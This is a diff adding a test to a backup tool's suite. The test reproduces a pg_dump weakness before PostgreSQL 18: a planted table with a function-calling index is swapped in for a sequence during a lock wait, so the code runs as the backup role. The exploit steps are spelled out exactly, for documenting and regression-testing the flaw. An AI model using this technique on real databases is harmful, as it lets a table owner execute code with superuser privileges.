@@ -8,6 +8,7 @@ import subprocess
 import threading
 import time
 from collections.abc import Callable
+from concurrent.futures import ThreadPoolExecutor
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -342,3 +343,26 @@ def test_a_backup_does_not_wait_for_a_transaction_of_the_owner(shop: Database, b
         owner.execute("DELETE FROM wide WHERE n = 1")
         record = staging.take()
     assert record.outcome is Outcome.DONE, record.sentence
+
+
+@needs("postgres-17")
+def test_a_table_in_the_place_of_a_sequence_runs_code_as_the_backup_role(database: New, backs_up: BacksUp) -> None:
+    """pg_dump reads sequences by name before PostgreSQL 18. No lock prevents it, so docs/security.md describes it."""
+    shop = database(17)
+    shop.run(
+        "CREATE FUNCTION report(int) RETURNS bigint IMMUTABLE LANGUAGE plpgsql AS "
+        "$$ BEGIN IF current_setting('application_name') = 'pg_dump' THEN "
+        "RAISE EXCEPTION 'this ran as %', current_user; END IF; RETURN 1; END $$",
+        "CREATE SCHEMA used; CREATE SEQUENCE used.s; CREATE SCHEMA planted; CREATE VIEW used.v AS SELECT 1 AS a",
+        "CREATE TABLE planted.s (last_value bigint, is_called bool)",
+        "CREATE INDEX ON planted.s ((public.report(1) + last_value))",
+    )
+    staging = backs_up(shop)
+    with ThreadPoolExecutor() as pool, shop.connect() as owner:
+        owner.execute("BEGIN; ALTER VIEW used.v SET (security_barrier)")  # pg_dump waits for its lock
+        taken = pool.submit(staging.take)
+        until(lambda: waits(shop, "%pg_get_viewdef%"))
+        shop.run("ALTER SCHEMA used RENAME TO old; ALTER SCHEMA planted RENAME TO used")
+        owner.execute("ROLLBACK")
+        record = taken.result()
+    assert "this ran as postgres" in record.sentence
